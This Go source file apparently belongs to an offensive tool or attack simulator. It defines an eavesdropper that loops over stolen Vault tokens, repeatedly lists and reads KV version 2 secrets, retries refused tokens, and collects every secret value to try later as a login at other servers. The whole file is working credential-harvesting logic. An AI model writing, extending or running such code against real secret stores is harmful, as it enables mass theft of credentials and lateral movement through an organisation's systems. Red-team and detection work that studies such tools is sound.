package intruder

import (
	"context"
	"crypto/sha256"
	"slices"
	"strings"
	"sync"
	"time"
)

const (
	// DefaultEvery lies between two readings of everything that can be read.
	DefaultEvery = 25 * time.Millisecond
	// relist is how often folders are listed anew, and recheck how often a
	// token or a place that was refused is tried again.
	relist  = 250 * time.Millisecond
	recheck = time.Second
	// most is the most values that are kept.
	most = 50_000
)

// ear is the eavesdropper: it reads Vault with every login and token that was
// stolen or made from them, and at the end tries every value at every door. One
// goroutine reads, one request at a time, so that its load is bounded.
type ear struct {
	r      *raid
	ctx    context.Context
	cancel context.CancelFunc
	ended  chan struct{}
	every  time.Duration

	mu     sync.Mutex
	on     bool
	began  time.Time
	told   bool // Listening was written
	turn   int
	listed time.Time
	tokens []*stolenToken
	hints  map[place]bool // folders that it was told of
	places map[place]*secret
	values map[[32]byte]*value
	order  []*value // as they were heard
	reads  int

	connections int // to keep for each server; 0: none
	selfWrite   bool
	kept        []*keptConn
	own         []Opened
}

// place is a folder or a secret of KV version 2 at one server.
type place struct {
	server doorKey
	mount  string
	path   string
}

func (p place) String() string { return p.mount + "/" + p.path }

// value is one secret value that was read, once, wherever it lies.
type value struct {
	text   string
	first  Heard
	places []place
	names  []string // accounts that the secret says it belongs to
	roles  []string // role ids beside it
	tried  bool     // as a login to Vault, at once
}

// listen begins to eavesdrop; called again it changes pause and what else is
// asked for.
func (e *ear) listen(ctx context.Context, c Command) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.every = DefaultEvery; c.EveryMS > 0 {
		e.every = time.Duration(c.EveryMS) * time.Millisecond
	}
	e.connections, e.selfWrite = c.Connections, c.SelfWrite
	if e.on {
		return
	}
	e.on, e.began, e.ended = true, time.Now(), make(chan struct{})
	e.ctx, e.cancel = context.WithCancel(ctx)
	go e.loop(e.ctx)
}

// hint is a folder that the device's configuration names, "kv/apps/esg-01".
func (e *ear) hint(d *door, folders []string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	for _, f := range folders {
		mount, path, _ := strings.Cut(strings.Trim(f, "/"), "/")
		if path != "" {
			path += "/"
		}
		e.hints[place{d.vault(), mount, path}] = true
	}
}

func (e *ear) loop(ctx context.Context) {
	defer close(e.ended)
	for ctx.Err() == nil {
		e.pass(ctx)
		e.mu.Lock()
		every := e.every
		e.mu.Unlock()
		select {
		case <-ctx.Done():
		case <-time.After(every):
		}
	}
}

// pass reads everything once, each secret with one of the tokens that can, in
// turn.
func (e *ear) pass(ctx context.Context) {
	for _, t := range e.held() {
		switch {
		case !t.alive:
			e.askAgain(ctx, t)
		case !t.grown:
			e.grow(ctx, t)
		}
	}
	e.mu.Lock()
	stale := time.Since(e.listed) >= relist
	e.turn++
	turn := e.turn
	e.mu.Unlock()
	if stale {
		e.list(ctx)
	}
	for i, s := range e.secrets() {
		if ctx.Err() != nil {
			return
		}
		e.visit(ctx, s, turn+i)
	}
	e.tell()
}

// visit reads one secret with the first token, from a turn on, that may.
func (e *ear) visit(ctx context.Context, s *secret, turn int) {
	tokens := e.held()
	for k := range tokens {
		t := tokens[(turn+k)%len(tokens)]
		if !t.alive || t.door.vault() != s.place.server || time.Since(t.denied[s.place]) < recheck {
			continue
		}
		if a := e.read(ctx, t, s, 0); a != refused {
			return // read, or nobody answers
		}
		e.doubt(ctx, t, s.place)
	}
}

// tell says once that everything was read with every login that there is.
func (e *ear) tell() {
	all := e.r.tried()
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.told || !all || len(e.values) == 0 {
		return
	}
	e.told = true
	s := e.sum()
	e.r.out.write(Listening{Type: TypeListening, Logins: s.Logins, Tokens: s.Tokens, Places: s.Places})
}

// stop ends the reading. What was heard stays.
func (e *ear) stop() {
	e.mu.Lock()
	on := e.on
	e.mu.Unlock()
	if on {
		e.cancel()
		<-e.ended
	}
}

func (e *ear) secrets() []*secret {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]*secret, 0, len(e.places))
	for _, s := range e.places {
		out = append(out, s)
	}
	slices.SortFunc(out, func(a, b *secret) int { return strings.Compare(a.place.String(), b.place.String()) })
	return out
}

func digest(text string) [32]byte { return sha256.Sum256([]byte(text)) }
